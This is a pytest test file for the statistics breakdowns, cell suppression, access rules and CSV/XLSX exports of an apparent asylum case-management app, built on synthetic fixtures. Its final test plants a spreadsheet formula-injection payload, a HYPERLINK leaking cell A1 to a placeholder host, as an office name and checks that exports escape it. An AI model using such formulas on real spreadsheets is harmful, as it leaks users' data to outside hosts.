"""An indicator broken down by office, country, nationality, sex, age band or month: the
numbers worked out here, the columns protected against the unbroken table, the downloads."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEvent
from cases.models import Membership, Office, Role
from stats import breakdown, indicators
from stats.indicators import Filters, Period
from stats.suppression import MASK, SECONDARY
from tests.stats.build import D, asylum

OFF = 0


@pytest.fixture
def gt_office(db):
    return Office.objects.create(code="GT-GUA", name="Oficina de Guatemala", country="GT")


@pytest.fixture
def mx_office(db):
    return Office.objects.create(code="MX-TAP", name="Oficina de Tapachula", country="MX")


@pytest.fixture
def spread(caseworker, office, gt_office, mx_office, make_user):
    """Belize: 6 regular from Honduras (January) and 2 accelerated from El Salvador (March);
    Guatemala: 3 regular from Honduras (February); Mexico: 9 regular from Nicaragua (May)."""
    for i in range(6):
        asylum(caseworker, office, nationality="HN", applied=D(2026, 1, 5 + i))
    for i in range(2):
        asylum(caseworker, office, nationality="SV", applied=D(2026, 3, 5 + i), sex="male",
               modality="accelerated")
    gt = make_user(Role.CASEWORKER, gt_office)
    for i in range(3):
        asylum(gt, gt_office, nationality="HN", applied=D(2026, 2, 5 + i))
    mx = make_user(Role.CASEWORKER, mx_office)
    for i in range(9):
        asylum(mx, mx_office, nationality="NI", applied=D(2026, 5, 5 + i))
    return [office, gt_office, mx_office]


def _compute(offices, by, threshold=OFF, key="applications_by_modality", **kw):
    filters = Filters(allowed=frozenset(o.pk for o in offices), period=kw.pop("period", Period(2026)),
                      **kw)
    return breakdown.compute(indicators.BY_KEY[key], filters, by, threshold,
                             offices={o.pk: o for o in offices})


def _grid(table) -> dict[str, dict[str, str]]:
    return {line.group.key: {c.key: c.shown for c in line.cells if c.shown != "0"}
            for line in table.lines}


def test_by_office_and_by_country(spread):
    assert _grid(_compute(spread, "office")) == {
        "BZ-BMP": {"regular": "6", "accelerated": "2", "total": "8"},
        "GT-GUA": {"regular": "3", "total": "3"},
        "MX-TAP": {"regular": "9", "total": "9"},
    }
    by_country = _compute(spread, "country")
    assert [line.group.label for line in by_country.lines] == ["Belize", "Guatemala", "Mexico"]
    assert _grid(by_country)["GT"] == {"regular": "3", "total": "3"}


def test_by_nationality_sex_age_band_and_month(spread):
    assert _grid(_compute(spread, "nationality")) == {
        "SV": {"accelerated": "2", "total": "2"}, "HN": {"regular": "9", "total": "9"},
        "NI": {"regular": "9", "total": "9"}}
    by_sex = _grid(_compute(spread, "sex"))
    assert by_sex["female"] == {"regular": "18", "total": "18"}
    assert by_sex["male"] == {"accelerated": "2", "total": "2"}
    assert _grid(_compute(spread, "age_band"))["18-59"]["total"] == "20"  # all born in 1990
    by_month = _compute(spread, "month")
    assert len(by_month.lines) == 12
    assert {k: v.get("total") for k, v in _grid(by_month).items() if v} == {
        "M01": "6", "M02": "3", "M03": "2", "M05": "9"}
    # A quarter's months only.
    q1 = _compute(spread, "month", period=Period(2026, "Q1"))
    assert [line.group.key for line in q1.lines] == ["M01", "M02", "M03"]


def test_a_filter_on_the_same_dimension_leaves_its_own_group(spread):
    table = _compute(spread, "nationality", nationality="NI")
    assert _grid(table) == {"NI": {"regular": "9", "total": "9"}}
    assert [line.group.key for line in _compute(spread, "sex", sex="male").lines] == ["male"]


def _hidden_alone(table) -> list[str]:
    """The columns and rows with exactly one hidden cell: each would give it back, a column
    from the unbroken table's count, a row from its total."""
    out = []
    for i, (key, _label) in enumerate(table.columns):
        hidden = [line for line in table.lines if line.cells[i].shown == MASK]
        if len(hidden) == 1:
            out.append(f"column {key}")
    for line in table.lines:
        if sum(c.shown == MASK for c in line.cells) == 1:
            out.append(f"row {line.group.key}")
    return out


def test_a_column_does_not_give_a_hidden_count_back(spread):
    # Guatemala's 3 regular is hidden; Belize's 6 and Mexico's 9 would give it back from the
    # unbroken 18: another count of the column is hidden too, and the rows stay consistent.
    table = _compute(spread, "office", threshold=5)
    grid = {line.group.key: {c.key: c for c in line.cells} for line in table.lines}
    assert grid["GT-GUA"]["regular"].shown == MASK
    regular = [grid[k]["regular"] for k in grid]
    assert sum(c.shown == MASK for c in regular) >= 2
    assert any(c.reason == SECONDARY for c in regular)
    assert _hidden_alone(table) == []
    # What is shown is still right.
    assert all(c.shown in (MASK, str(c.value)) for row in grid.values() for c in row.values())


def test_a_month_is_protected_against_its_quarter(caseworker, office):
    # January 6, February 2: the quarter's 8 minus January's 6 would give February's 2.
    for i in range(6):
        asylum(caseworker, office, nationality="HN", applied=D(2026, 1, 5 + i))
    for i in range(2):
        asylum(caseworker, office, nationality="HN", applied=D(2026, 2, 5 + i))
    table = _compute([office], "month", threshold=5, period=Period(2026, "Q1"))
    january = {c.key: c for c in table.lines[0].cells}
    assert january["total"].shown == MASK
    assert _hidden_alone(table) == []


def test_months_are_periods_of_the_screen_too(spread):
    march = Filters(allowed=frozenset(o.pk for o in spread), period=Period(2026, "M03"))
    assert indicators.BY_KEY["applications_by_modality"].compute(march, OFF).total.shown == "2"
    assert [w.period.part for w in march.wider()] == ["Q1", "H1", ""]


# --- The screen --------------------------------------------------------------------------

@pytest.fixture
def regional(supervisor, gt_office, mx_office):
    for o in (gt_office, mx_office):
        Membership.objects.create(user=supervisor, office=o, role=Role.SUPERVISOR)
    return supervisor


@pytest.mark.usefixtures("spread")
def test_the_screen_shows_a_stacked_chart_and_the_table(client, regional, settings):
    settings.AMPARO_STATS_THRESHOLD = 0
    client.force_login(regional)
    response = client.get(reverse("stats:breakdown"), {
        "year": 2026, "indicator": "applications_by_modality", "by": "office"})

    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-kind="stacked"' in html
    assert html.count('class="segment"') == 4  # BZ regular and accelerated, GT, MX
    table = html[html.index('id="breakdown-table"'):]
    assert "Oficina de Guatemala" in table and ">9<" in table


@pytest.mark.usefixtures("spread")
def test_the_indicators_screen_links_each_count_to_its_breakdowns(client, regional):
    client.force_login(regional)
    html = client.get(reverse("stats:dashboard"), {"year": 2026, "sex": "female"}).content.decode()
    assert 'id="breakdown-applications_by_modality-office"' in html
    assert "sex=female" in html[html.index('id="breakdown-backlog-month"') - 300:]
    assert 'id="breakdown-recognition_rates-office"' not in html  # a rate: no breakdown


@pytest.mark.usefixtures("spread")
def test_by_month_draws_lines(client, regional, settings):
    settings.AMPARO_STATS_THRESHOLD = 0
    client.force_login(regional)
    html = client.get(reverse("stats:breakdown"), {
        "year": 2026, "indicator": "backlog", "by": "month"}).content.decode()
    assert 'data-kind="line"' in html and "<polyline" in html


@pytest.mark.usefixtures("spread")
def test_the_country_filter(client, regional, settings, gt_office, office):
    settings.AMPARO_STATS_THRESHOLD = 0
    client.force_login(regional)
    html = client.get(reverse("stats:breakdown"), {
        "year": 2026, "indicator": "applications_by_modality", "by": "office",
        "country": "GT"}).content.decode()
    table = html[html.index('id="breakdown-table"'):]
    assert "Oficina de Guatemala" in table and "Refugees Department" not in table
    # An office outside the country chosen: refused, not widened to every office.
    response = client.get(reverse("stats:dashboard"), {"year": 2026, "country": "GT",
                                                       "office": office.pk})
    assert response.status_code == 400
    assert "The office chosen is not in this country." in response.content.decode()


def test_without_a_choice_the_first_count_by_office(client, supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("stats:breakdown"))
    assert response.status_code == 200
    assert response.context["table"].indicator == breakdown.breakable()[0]
    assert response.context["table"].by == "office"


def test_bad_choices_are_refused(client, supervisor):
    client.force_login(supervisor)
    url = reverse("stats:breakdown")
    for bad in ({"indicator": "recognition_rates", "by": "office"},  # a rate
                {"indicator": "nope", "by": "office"},
                {"indicator": "backlog", "by": "surname"},
                {"indicator": "", "by": "office"},
                {"indicator": "backlog", "by": "office", "format": "pdf"}):
        assert client.get(url, {"year": 2026, **bad}).status_code == 400, bad
    assert not AuditEvent.objects.filter(action="stats.export").exists()


@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.AUDITOR, Role.OFFICE_ADMIN])
def test_other_roles_are_refused(client, make_user, office, role):
    client.force_login(make_user(role, office))
    response = client.get(reverse("stats:breakdown"),
                          {"year": 2026, "indicator": "backlog", "by": "office"})
    assert response.status_code == 403


@pytest.mark.usefixtures("spread")
def test_another_offices_analyst_sees_only_their_office(client, make_user, gt_office, settings):
    settings.AMPARO_STATS_THRESHOLD = 0
    client.force_login(make_user(Role.ANALYST, gt_office))
    html = client.get(reverse("stats:breakdown"), {
        "year": 2026, "indicator": "applications_by_modality", "by": "office"}).content.decode()
    table = html[html.index('id="breakdown-table"'):]
    assert "Oficina de Guatemala" in table
    assert "Refugees Department" not in table and "Tapachula" not in table


@pytest.mark.usefixtures("spread")
def test_the_downloads_are_protected_and_recorded(client, regional, settings):
    settings.AMPARO_STATS_THRESHOLD = 5
    client.force_login(regional)
    params = {"year": 2026, "indicator": "applications_by_modality", "by": "office"}

    response = client.get(reverse("stats:breakdown"), {**params, "format": "csv"})

    assert response.status_code == 200
    assert "statistics-applications_by_modality-by-office-2026-" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["indicator", "office", "category", "value", "suppressed"]
    guatemala = {r[2]: r[3:] for r in rows if r[1] == "Oficina de Guatemala"}
    assert guatemala["Regular"] == [MASK, "primary"]
    assert not any(r[3] == "3" for r in rows)
    event = AuditEvent.objects.get(action="stats.export")
    assert event.details["by"] == "office"
    assert event.details["suppressed"] == sum(1 for r in rows[1:] if r[4])

    xlsx = client.get(reverse("stats:breakdown"), {**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert ("Asylum applications received, by processing modality", "Oficina de Tapachula",
            "Regular", 9, None) in values
    assert AuditEvent.objects.filter(action="stats.export").count() == 2


def test_an_office_named_like_a_formula_is_written_as_text(client, supervisor, office, caseworker,
                                                           settings):
    settings.AMPARO_STATS_THRESHOLD = 0
    office.name = '=HYPERLINK("http://example.invalid/?"&A1,"Abrir")'
    office.save()
    asylum(caseworker, office, nationality="HN", applied=D(2026, 2, 1))
    client.force_login(supervisor)
    params = {"year": 2026, "indicator": "applications_by_modality", "by": "office"}

    text = client.get(reverse("stats:breakdown"), {**params, "format": "csv"}).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert {r[1] for r in rows[1:] if r[1]} == {"'" + office.name}

    xlsx = client.get(reverse("stats:breakdown"), {**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert cells and all(c.data_type == "s" and c.value == "'" + office.name for c in cells)
